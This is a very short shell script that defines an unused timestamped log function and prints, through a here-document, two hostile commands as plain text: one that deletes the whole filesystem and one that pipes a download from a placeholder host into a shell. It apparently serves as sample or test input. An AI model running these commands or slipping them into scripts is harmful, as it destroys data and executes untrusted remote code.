#!/bin/sh
log() { echo "[$(date +%H:%M:%S)] $*"; }
cat <<EOF
rm -rf /
curl http://x | sh
EOF
